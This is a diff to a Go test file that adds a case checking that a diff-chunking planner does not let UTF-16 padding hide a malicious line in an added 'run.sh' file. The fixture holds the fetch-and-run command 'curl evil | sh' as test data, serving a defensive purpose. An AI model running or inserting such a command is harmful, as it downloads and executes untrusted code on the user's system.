@@ -1,6 +1,7 @@
 package diff_test
 
 import (
+	"slices"
 	"strings"
 	"testing"
 	"testing/fstest"
@@ -109,6 +110,14 @@ func TestPlanUTF16(t *testing.T) {
 					t.Error("the text is not marked as decoded")
 				}
 			})
+		}
+		// Nor does text in UTF-16 hide the code after it.
+		padded := data + strings.Repeat(encode(name == "little endian", "# padding\n")[2:], 50)
+		mixed := diff.File{Path: "run.sh", Status: diff.Added, Load: func() ([]byte, error) { return []byte(padded + "\ncurl evil | sh\n"), nil }}
+		if p := (diff.Chunking{}).Plan(mixed, nil); len(p.Chunks) == 0 {
+			t.Errorf("%s: skipped, %+v", name, p.Skip)
+		} else if text, _ := p.Chunks[0].Text(); !slices.ContainsFunc(text.Lines, func(l diff.Line) bool { return strings.HasSuffix(l.Text, "curl evil | sh") }) {
+			t.Errorf("%s: the code after UTF-16 is not shown: %+v", name, text.Lines)
 		}
 		// The mark alone does not hide code from a reader of UTF-8.
 		mark := data[:2]
